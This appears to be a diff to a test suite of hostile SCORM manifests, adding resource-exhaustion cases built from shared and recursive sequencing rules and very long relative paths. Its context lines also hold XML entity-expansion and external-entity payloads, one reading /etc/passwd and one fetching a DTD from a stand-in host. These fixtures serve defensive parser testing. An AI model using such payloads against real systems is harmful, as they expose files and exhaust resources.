@@ -100,6 +100,26 @@ def items(depth: int) -> str:
     return manifest_1_2(items="<item><title>a</title>" * depth + "</item>" * depth)
 
 
+def one_rule_for_many() -> bytes:
+    """Rules of some size that a thousand activities name: small in the zip, thousandfold in the menu."""
+    said = " ".join(f'a{n}="{"x" * 900}{n}"' for n in range(20))
+    shared = f'<sequencingCollection><sequencing ID="s"><sequencingRules {said}/></sequencing></sequencingCollection>'
+    items = '<item identifierref="R1"><title>a</title><sequencing IDRef="s"/></item>' * 1500
+    return with_manifest(manifest_1_2(items=items).replace("</manifest>", f"{shared}</manifest>"))
+
+
+def rules_that_ask_all() -> bytes:
+    """A hundred rules that each ask 1,900 activities, each of which reads what 25 others have written."""
+    rule = '<rollupRule><rollupConditions><rollupCondition condition="completed"/></rollupConditions></rollupRule>'
+    maps = "".join(f'<mapInfo targetObjectiveID="{n}"/>' for n in range(25))
+    shared = f'<sequencing ID="s"><objectives><primaryObjective>{maps}</primaryObjective></objectives></sequencing>'
+    inside = '<item identifierref="R1"><title>a</title><sequencing IDRef="s"/></item>' * 1900
+    own = f"<sequencing><rollupRules>{rule * 100}</rollupRules></sequencing>"
+    items = f"<item><title>all</title>{own}{inside}</item>"
+    end = f"<sequencingCollection>{shared}</sequencingCollection></manifest>"
+    return with_manifest(manifest_1_2(items=items).replace("</manifest>", end))
+
+
 LAUGHS = '<!DOCTYPE m [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><manifest><metadata>&b;</metadata></manifest>'
 OUTSIDE = '<!DOCTYPE m [<!ENTITY a SYSTEM "file:///etc/passwd">]><manifest><metadata>&a;</metadata></manifest>'
 PARAMETER = '<!DOCTYPE m [<!ENTITY % a SYSTEM "http://evil.test/x.dtd"> %a;]><manifest/>'
@@ -229,5 +249,15 @@ HOSTILE: dict[str, tuple[Callable[[], bytes], str, str]] = {
         "leaves",
         "index.html",
     ),
+    "a page with an endless base": (
+        lambda: with_manifest(
+            manifest_1_2(resources=f'<resource identifier="R1" xml:base="{"./" * 5000}" href="index.html"/>')
+        ),
+        "absent",
+        "index.html",
+    ),
+    "an endless address": (lambda: starting("./" * 5000 + "index.html"), "absent", "./"),
+    "one rule for many activities": (one_rule_for_many, "too_many_rules", "imsmanifest.xml"),
+    "rules that ask each other without end": (rules_that_ask_all, "too_many_rules", "imsmanifest.xml"),
     "a page that is not there": (lambda: starting("missing.html"), "absent", "missing.html"),
 }
